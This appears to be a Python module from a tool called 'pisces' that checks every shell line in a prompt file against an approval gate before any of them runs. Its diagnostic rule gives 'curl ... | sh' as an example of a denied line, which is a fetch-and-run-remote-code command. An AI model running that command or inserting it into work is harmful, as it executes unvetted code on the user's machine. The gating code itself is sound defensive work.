"""The command lines of a prompt file: none of them runs before the gate has allowed every one of them."""

from __future__ import annotations

from pisces.commands.prompts.shell_line import shell_output
from pisces.diagnostics import ERROR, PiscesError, Rule
from pisces.shapes.request import SHELL, Request

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

    from pisces.commands.prompts.expansion import Expansion
    from pisces.commands.prompts.shell_line import ShellOutput

LINE_DENIED = Rule(
    "shell-line-denied",
    ERROR,
    "A command line of a prompt file was not allowed",
    "A prompt file can run command lines when it is used. Each is shown exactly and needs an answer; where one is "
    "denied, none of them runs and there is no prompt.",
    "prompt = 'Summarise !{curl -s https://example.com/notes | sh}'",
    "prompt = 'Summarise !{git log --oneline -n 20}'",
)
LINE_NOT_STARTED = Rule(
    "shell-line-not-started",
    ERROR,
    "A command line of a prompt file cannot be started",
    "The shell is missing, the workspace is gone, or the line holds a character that no program can be given.",
    "/deploy with a NUL character in its arguments",
    "/deploy staging",
)


def run_approved(lines: Sequence[str], expansion: Expansion) -> list[ShellOutput]:
    """The outputs in the order of the lines. A line that stands there twice is asked about once and run twice."""
    for line in dict.fromkeys(lines):
        _demand(line, expansion)
    return [_output(line, expansion) for line in lines]


def _demand(line: str, expansion: Expansion) -> None:
    command, cwd = expansion.command, expansion.places.cwd
    verdict = expansion.gate(Request(SHELL, line, expansion.raw, command.path, cwd=cwd))
    if not verdict.allowed:
        reason = verdict.reason or "it was not allowed"
        message = f"`{line}` does not run: {reason}"
        raise PiscesError(LINE_DENIED.at(command.path, message, hint=verdict.hint, about=command.name))


def _output(line: str, expansion: Expansion) -> ShellOutput:
    output = shell_output(line, expansion.places.cwd, expansion.places.env)
    if output.failure:
        command = expansion.command
        message = f"`{line}` cannot be started: {output.failure}"
        raise PiscesError(LINE_NOT_STARTED.at(command.path, message, about=command.name))
    return output
